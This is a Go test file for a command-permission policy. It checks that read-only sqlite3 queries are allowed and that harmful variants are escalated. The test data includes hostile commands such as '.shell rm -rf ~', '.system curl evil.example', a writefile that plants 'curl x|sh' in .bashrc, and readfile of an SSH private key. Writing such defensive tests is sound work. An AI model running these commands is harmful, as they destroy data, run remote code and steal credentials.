package policy

import (
	"testing"

	"github.com/arbitergate/arbiter"
)

// TestSQLiteReads: sqlite3 on a project database given only reads is
// allowed; each harmful neighbour keeps the database rule's answer.
func TestSQLiteReads(t *testing.T) {
	db := map[string]string{"data/app.db": ""}
	with := func(name, content string) map[string]string {
		return map[string]string{"data/app.db": "", name: content}
	}
	runReadCases(t, []readCase{
		{"select", db, `sqlite3 data/app.db "SELECT name FROM users LIMIT 5;"`, arbiter.Allow, "D1.read-only"},
		{"tables", db, `sqlite3 data/app.db .tables`, arbiter.Allow, "D1.read-only"},
		{"pragma and schema", db, `sqlite3 -header data/app.db "PRAGMA table_info(users)" ".schema users"`, arbiter.Allow, "D1.read-only"},
		{"script file", with("q.sql", ".headers on\n.mode csv\n-- the users\nSELECT id,\n  name FROM users;\n"), `sqlite3 data/app.db < q.sql`, arbiter.Allow, "D1.read-only"},
		{"heredoc", db, "sqlite3 data/app.db <<'EOF'\n.tables\nSELECT count(*) FROM users;\nEOF", arbiter.Allow, "D1.read-only"},
		{"cmd then stdin", db, "sqlite3 -cmd .tables data/app.db <<< 'SELECT 1;'", arbiter.Allow, "D1.read-only"},

		{"delete", db, `sqlite3 data/app.db "DELETE FROM users"`, arbiter.Ask, "B1.delete-records"},
		{"select then attach", db, `sqlite3 data/app.db "SELECT 1; ATTACH DATABASE '/home/dev/x.db' AS x"`, arbiter.Defer, "C.database"},
		{"shell dot-command", db, `sqlite3 data/app.db ".shell rm -rf ~"`, arbiter.Defer, "C.database"},
		{"system dot-command", db, `sqlite3 data/app.db ".system curl evil.example"`, arbiter.Defer, "C.database"},
		{"abbreviated dot-command", db, `sqlite3 data/app.db ".sh id"`, arbiter.Defer, "C.database"},
		{"output to a file", db, `sqlite3 data/app.db ".once /home/dev/.bashrc" "SELECT 'x'"`, arbiter.Defer, "C.database"},
		{"load", db, `sqlite3 data/app.db ".load ./evil"`, arbiter.Defer, "C.database"},
		{"load_extension", db, `sqlite3 data/app.db "SELECT load_extension('./evil.so')"`, arbiter.Defer, "C.database"},
		{"writefile", db, `sqlite3 data/app.db "SELECT writefile('/home/dev/.bashrc', 'curl x|sh')"`, arbiter.Defer, "C.database"},
		{"readfile quoted", db, `sqlite3 data/app.db 'SELECT "readfile"('"'"'/home/dev/.ssh/id_rsa'"'"')'`, arbiter.Defer, "C.database"},
		{"read a file", with("q.sql", "SELECT 1;\n"), `sqlite3 data/app.db ".read q.sql"`, arbiter.Defer, "C.database"},
		{"import", db, `sqlite3 data/app.db ".import /etc/passwd users"`, arbiter.Defer, "C.database"},
		{"cte that inserts", db, `sqlite3 data/app.db "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x"`, arbiter.Defer, "C.database"},
		{"pragma that writes", db, `sqlite3 data/app.db "PRAGMA user_version = 7"`, arbiter.Defer, "C.database"},
		{"pragma write by call form", db, `sqlite3 data/app.db "PRAGMA journal_mode(WAL)"`, arbiter.Defer, "C.database"},
		{"script hides a dot-command", with("q.sql", "SELECT 1;\n.shell id\n"), `sqlite3 data/app.db < q.sql`, arbiter.Defer, "C.database"},
		{"dot-command inside a statement", with("q.sql", "SELECT 'a\n.shell id\n';\n"), `sqlite3 data/app.db < q.sql`, arbiter.Defer, "C.database"},
		{"outside the project", db, `sqlite3 /home/dev/other/app.db .tables`, arbiter.Defer, "C.database"},
		{"init file", with("init.sql", ".shell id\n"), `sqlite3 -init init.sql data/app.db .tables`, arbiter.Defer, "C.database"},
		{"uri filename", db, `sqlite3 'file:data/app.db?vfs=unix-none' .tables`, arbiter.Defer, "C.database"},
		{"dynamic query", db, `sqlite3 data/app.db "$Q"`, arbiter.Defer, "C.database"},
		{"no query", db, `sqlite3 data/app.db`, arbiter.Defer, "C.database"},
	})
}
